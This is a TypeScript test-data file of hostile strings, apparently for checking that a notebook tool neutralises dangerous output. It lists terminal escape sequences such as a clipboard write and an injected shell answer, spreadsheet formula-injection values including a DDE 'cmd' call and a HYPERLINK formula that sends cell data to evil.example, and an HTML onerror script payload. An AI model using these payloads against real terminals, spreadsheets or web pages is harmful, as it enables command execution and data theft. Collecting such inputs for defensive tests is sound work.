/** Texts that do something where they are shown. HTML has a table of its own, `test/support/hostile-cells.ts`. Data alone. */
import { marker } from '../support/hostile-cells.ts';

/** Commands to a terminal, by what they do. Each text begins with `a` and has a `b` after the command. */
export const terminalCommands: readonly (readonly [what: string, text: string])[] = [
  ['the clipboard', 'a\u001b]52;c;ZXZpbA==\u0007b'],
  ['the title', 'a\u001b]0;evil\u001b\\b'],
  ['a link', 'a\u001b]8;;http://evil.example\u0007b\u001b]8;;\u0007'],
  ['the cursor', 'a\u001b[2J\u001b[1;1Hb'],
  ['an answer typed into the shell', 'a\u001b[6n\u001b[cb'],
  ['the other screen', 'a\u001b[?1049hb'],
  ['a reset', 'a\u001bcb'],
  ['eight-bit commands', 'a\u009b2J\u009d0;evil\u009cb'],
  ['backspaces', 'ax\b\bb'],
  ['a device string', 'a\u001bP$q"p\u001b\\b'],
];

/** Values that a spreadsheet would run as formulas. */
export const formulas: readonly string[] = [
  '=1+1',
  '+x',
  '-cmd',
  '@x',
  '\tx',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1)',
];

/** Elements that run a script in a page that trusts the notebook. */
export const activeHtml: readonly string[] = [`<img src=x onerror='window.${marker}=1'>`];
